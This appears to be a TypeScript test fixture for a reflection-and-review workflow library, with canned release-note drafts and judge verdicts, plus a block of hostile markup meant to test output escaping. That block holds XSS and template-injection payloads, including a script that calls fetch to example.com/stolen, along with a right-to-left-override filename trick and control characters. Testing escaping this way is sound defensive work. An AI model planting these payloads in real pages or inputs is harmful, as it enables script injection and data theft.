import { z } from 'zod';
import type { ReflectionSpec } from '../../src/index';
import { defineAction } from '../../src/worker';

/** What the writer answers, and below what the judge does. */
export const DRAFTS = [
  'Version 2.4 is out.\n\nWe improved many things. Exports are faster. Some problems were fixed.',
  'Version 2.4 is out.\n\nExports of large tables are four times faster. A crash of the importer was fixed.',
  'Version 2.4 is out.\n\nExports of tables with more than 10,000 rows are four times faster. The importer no longer crashes on empty files.',
  'Version 2.4 is out.\n\nExports of tables with more than 10,000 rows are four times faster. The importer no longer crashes on empty files.\n\nUpgrade with `app upgrade`; nothing else changes.',
];
const vague = (message: string, severity = 'major') => ({ message, severity, suggestion: 'Name the figures.' });
export const VERDICTS = [
  {
    score: 0.35,
    reason: 'Too vague.',
    issues: [vague('“many things” says nothing'), vague('No figure for the speed')],
  },
  { score: 0.6, reason: 'Better.', issues: [vague('“large tables” has no figure', 'minor')] },
  { score: 0.7, reason: 'Concrete, but nobody learns how to upgrade.', issues: [vague('How to upgrade is missing')] },
  { score: 0.95, reason: 'It says how to upgrade, too.', issues: [] },
].map((one) => ({ suggestions: [], confidence: 0.9, valid: one.score > 0.8, ...one }));

/** Waits after each version. */
export const NOTES: ReflectionSpec = {
  name: 'release-notes',
  task: 'Write the release notes of version 2.4 for users, with figures.',
  generator: { action: 'llm.call', prompt: '{{ task }}' },
  corrector: { action: 'llm.call', prompt: 'Revise: {{ reflection_output }}' },
  evaluator: { type: 'llm', prompt: 'Are the notes concrete?' },
  review: { when: 'every_iteration', timeout: '2d' },
  maxIterations: 6,
};

/** What would do harm if it were markup. */
export const HOSTILE = [
  '</textarea></pre></style></script><script>document.title = "taken"; fetch("https://example.com/stolen")</script>',
  '<img src=https://example.com/a.png onerror="document.title = 1"><iframe src="javascript:alert(1)"></iframe>',
  '{{ constructor.constructor("return 1")() }} ${process.exit()} <%= 1 %> $& $1 &lt;b&gt; <!-- ]]> -->',
  '<form action=https://example.com><button autofocus onfocus=alert(1)>send</button></form>',
].join('\n');

/** A large text with that. */
export const attacks = defineAction({
  name: 'attacks',
  description: 'Writes what would be harmful in a page.',
  input: z.unknown(),
  run: (_input, { iteration }) =>
    `${HOSTILE}\n\u202egnp.exe\u0000\u001b[31m\n${`version ${iteration} <b>words</b>. `.repeat(9_000)}`,
});
export const counts = defineAction({
  name: 'counts',
  description: 'Gives its iteration.',
  input: z.unknown(),
  run: (_input, { iteration }) => ({ name: 'Robin', iteration }),
});
/** Waits after each version, asks no model, and never passes. */
export const COUNTS: ReflectionSpec = {
  name: 'counts',
  task: 'Count.',
  generator: { action: 'counts' },
  evaluator: { type: 'schema', schema: { type: 'object', required: ['missing'] } },
  review: { when: 'every_iteration' },
  maxIterations: 2,
};
